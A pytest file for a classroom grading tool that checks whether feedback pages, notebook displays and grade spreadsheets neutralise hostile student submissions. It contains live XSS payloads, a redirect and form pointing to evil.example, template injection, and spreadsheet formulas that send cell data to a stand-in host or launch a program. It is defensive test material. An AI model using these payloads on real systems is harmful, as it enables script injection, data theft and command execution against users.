"""Attacks on whoever reads: programs, forged text and sizes in feedback pages and in what formgrader shows.

What a page is made of is asked of a parser, as a browser has one: only known tags, no handlers, nothing from outside.
"""

import base64
import struct
import zlib
from html.parser import HTMLParser
from unittest import mock

import nbformat
import pytest
from jinja2 import Environment
from nbconvert import HTMLExporter

from classroom import feedback
from classroom.export import Grade, plain, read_table, spreadsheet, table_of, write_table
from classroom.feedback import Page, TaskLine, render, write_feedback
from classroom.gradebook import graded_notebook, open_gradebook
from classroom.grading import grade_class
from classroom.outcome import Outcome
from classroom.outputs import picture_of, safe_outputs
from classroom.sandbox.session import Report
from classroom.verdicts import Verdict, read_verdict
from classroom.workers import on_this_machine
from tests.classroom.submissions import RIGHT, hand_in
from tests.small_assignment import NAME

TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "strong", "section", "span", "pre",
        "details", "summary", "img"}  # fmt: skip
ATTRIBUTES = {"lang", "charset", "name", "content", "http-equiv", "class", "alt", "src"}


class Reader(HTMLParser):
    """Collects what a page would start or load."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.sources, self.orders = set(), set(), [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.sources += [value for name, value in attrs if name in ("src", "href", "action", "data")]
        self.orders += [value for name, value in attrs if name == "http-equiv"]


def is_safe(text):
    page = Reader(text)
    loads_nothing = all(source.startswith("data:image/png;base64,") for source in page.sources)
    known = page.tags <= TAGS and page.attributes <= ATTRIBUTES
    return known and loads_nothing and page.orders == ["Content-Security-Policy"]


def png(width=1, height=1):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0\0\0\0")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def in_base64(data):
    return base64.b64encode(data).decode()


NASTY = {
    "a script": "</pre></summary><script>alert(1)</script>",
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a handler that ends a string": '" onmouseover="alert(1)" \'',
    "a page in the page": "</style></title><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "another base": "<base href=//evil.example><form action=//evil.example><input name=a>",
    "a redirection": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a drawing": "<svg onload=alert(1)><use href=//evil.example/#a></svg>",
    "a template": "{{ page.tasks }}{% for a in page %}{{ a }}{% endfor %}",
    "a comment that hides": "<!-- hidden --><![CDATA[<script>]]>",
}


def line(text, picture=""):
    return TaskLine(text, text, 4.0, 0.0, text, text, text, [text], [picture] if picture else [])


@pytest.mark.parametrize("name", NASTY)
def test_whatever_a_page_says_it_says_as_text(name):
    text = NASTY[name]
    page = Page(text, text, text, 9.0, 4.0, 0.0, [line(text, in_base64(png()))], [text])
    written = render(page)
    assert is_safe(written)
    assert "default-src 'none'; img-src data:" in written
    assert "script-src" not in written
    unescaped = mock.patch.object(feedback, "Environment", lambda autoescape, **options: Environment(**options))
    with unescaped:
        if name not in ("a template", "a handler that ends a string", "a comment that hides"):  # no tags in them
            assert not is_safe(render(page))


FORMULAS = {
    "a formula with a link": '=HYPERLINK("http://evil.example?"&A1, "grade")',
    "a formula that starts a program": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind spaces": "   +1+1",
    "a formula behind a tab": "\t=1+1",
    "a formula with a wide sign": "＝1+1",
}


@pytest.mark.parametrize("name", FORMULAS)
def test_an_export_starts_no_formula(name):
    """As whatever a student may choose: the id, the names, and what a file is refused for."""
    text = FORMULAS[name]
    grade = Grade(text, text, text, text, state="no grade", reason=text)

    def cells():
        return read_table(write_table(table_of([grade])))[1]

    def start(cells):
        return [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "＝"))]

    assert start(cells()) == []
    assert [plain(cell) for cell in cells()].count(text) == 5
    with mock.patch.object(spreadsheet, "_looks_like_a_formula", return_value=False):
        assert start(cells()) == [text] * 5


NO_PICTURES = {
    "text": in_base64(b"<script>alert(1)</script>"),
    "a drawing": in_base64(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "the end of a string": '" onerror="alert(1)',
    "a beginning only": in_base64(png()[:12]),
    "a JPEG": in_base64(b"\xff\xd8\xff\xe0" + bytes(100)),
    "so large that a browser stops": in_base64(png(60_000, 60_000)),
    "without points": in_base64(png(0, 10)),
    "too many bytes": in_base64(png() + bytes(3 * 2**20)),
    "a number": 4,
    "letters that are none": "\ud800é",
}


@pytest.mark.parametrize("name", NO_PICTURES)
def test_a_picture_that_is_none_is_not_shown(name):
    assert picture_of(NO_PICTURES[name]) == ""
    hidden = in_base64(png()) + '" onerror="alert(1)'
    assert set(picture_of(hidden)) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=")
    assert picture_of(in_base64(png(640, 480))) == in_base64(png(640, 480))


SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    {"output_type": "display_data", "data": {"text/html": SCRIPT, "text/plain": "5"}, "metadata": {}},
    {"output_type": "display_data", "data": {"application/javascript": "alert(1)"}, "metadata": {}},
    {"output_type": "display_data", "data": {"image/svg+xml": f"<svg>{SCRIPT}</svg>"}, "metadata": {}},
    {"output_type": "display_data", "data": {"text/markdown": SCRIPT, "text/latex": "$" + SCRIPT}, "metadata": {}},
    {"output_type": "display_data", "data": {"image/png": f'"{SCRIPT}'}, "metadata": {"image/png": {"width": SCRIPT}}},
    {"output_type": "execute_result", "execution_count": 1, "metadata": {},
     "data": {"application/vnd.jupyter.widget-view+json": {"model_id": SCRIPT}}},
    {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{SCRIPT}\x1b[0m\ud800\0"},
    {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [f"\x1b[31m{SCRIPT}"]},
    {"output_type": "update_display_data", "data": {"text/html": SCRIPT}, "metadata": {}},
    {"output_type": "stream"}, {"output_type": "error", "traceback": SCRIPT}, {}, {"output_type": ["error"]},
]  # fmt: skip


def test_formgrader_shows_text_and_pictures_only(small, monkeypatch):
    notebook = nbformat.read(hand_in(small, "mallory", RIGHT), as_version=4)
    outcome = Outcome("e99-double", 4.0, 0.0, f"{SCRIPT}\x1b[31m", SCRIPT)
    honest = {"output_type": "display_data", "data": {"image/png": in_base64(png()), "text/plain": "7"}}
    verdict = Verdict(NAME, "mallory", "", "", [outcome], outputs={"e99-imports": [*HOSTILE, honest]})

    def shown():
        made = graded_notebook(notebook, verdict)
        nbformat.validate(made)
        for cell in made.cells:
            cell.source = ""
        return Reader(HTMLExporter(template_name="basic").from_notebook_node(made)[0])

    page = shown()
    assert not {"script", "svg", "iframe", "use", "object", "embed", "form"} & page.tags
    assert not [name for name in page.attributes if name.startswith("on")]
    assert page.sources == [f"data:image/png;base64,{in_base64(png())}"]
    monkeypatch.setattr("classroom.gradebook.safe_outputs", lambda outputs: outputs[:3])
    assert "script" in shown().tags


def test_outputs_are_bounded_and_can_be_written():
    flood = [{"output_type": "stream", "text": "\ud800" * 10**6}, {"output_type": "error", "traceback": ["x"] * 10**5}]
    for output in safe_outputs([*flood, *HOSTILE]):
        text = str(output)
        text.encode("utf-8")
        assert len(text) < 110_000
    assert len(safe_outputs(flood * 1000)) <= 50


class Prints:
    """A sandbox in which a submission has shown whatever it liked."""

    def __init__(self, outputs):
        self.outputs = outputs

    def __enter__(self):
        return self

    def __exit__(self, *_):
        return None

    def grade(self, cells, *, draw=""):
        outcomes = [Outcome("e99-double", 4.0, 0.0, "\ud800 hidden 1234567", "the hint"), Outcome("e99-sums", 5, 5, "")]
        assert cells[4].id == "e99-double-answer"
        return Report(outcomes, {4: self.outputs}, ["a note \ud800 " + "x" * 10**5] * 100)


def test_a_page_of_hostile_outputs_is_bounded_and_hides_what_the_instructor_reads(small, monkeypatch):
    flood = [{"output_type": "stream", "name": "stdout", "text": "\u202e\ud800\0" + "x" * 2 * 10**5}] * 60
    pictures = [{"output_type": "display_data", "data": {"image/png": in_base64(png())}, "metadata": {}}] * 9
    body = f"    return number + number  # {'</pre><script>' * 10**5}\n"
    hand_in(small, "mallory", RIGHT | {"e99-double-answer": body}, why="\u202e<script>" + "z" * 10**6)
    monkeypatch.setattr("classroom.workers.open_sandbox", lambda limits, **_: Prints([*pictures, *flood, *HOSTILE]))
    grade_class(small, "e99", execute=on_this_machine(small, workers=1))
    with open_gradebook(small) as gradebook:
        comment = gradebook.find_comment("e99-slowness", NAME, NAME, "mallory")
        comment.manual_comment = "<b>see</b> \u202e"
        gradebook.db.commit()
    verdict = str(read_verdict(small, NAME, "mallory"))
    assert "\ud800" not in verdict
    assert len(verdict) < 20 * 2**20
    path = write_feedback(small, "e99", "mallory")
    text = path.read_text(encoding="utf-8")
    assert is_safe(text)
    assert "1234567" not in text
    assert "the hint" in text
    assert not set("\u202e\0\ud800") & set(text)
    assert path.stat().st_size < 10 * 2**20
    graded = small.autograded / "mallory" / NAME / f"{NAME}.ipynb"
    assert "\ufffd hidden 1234567" in graded.read_text(encoding="utf-8")
    assert text.count("<img") == 5
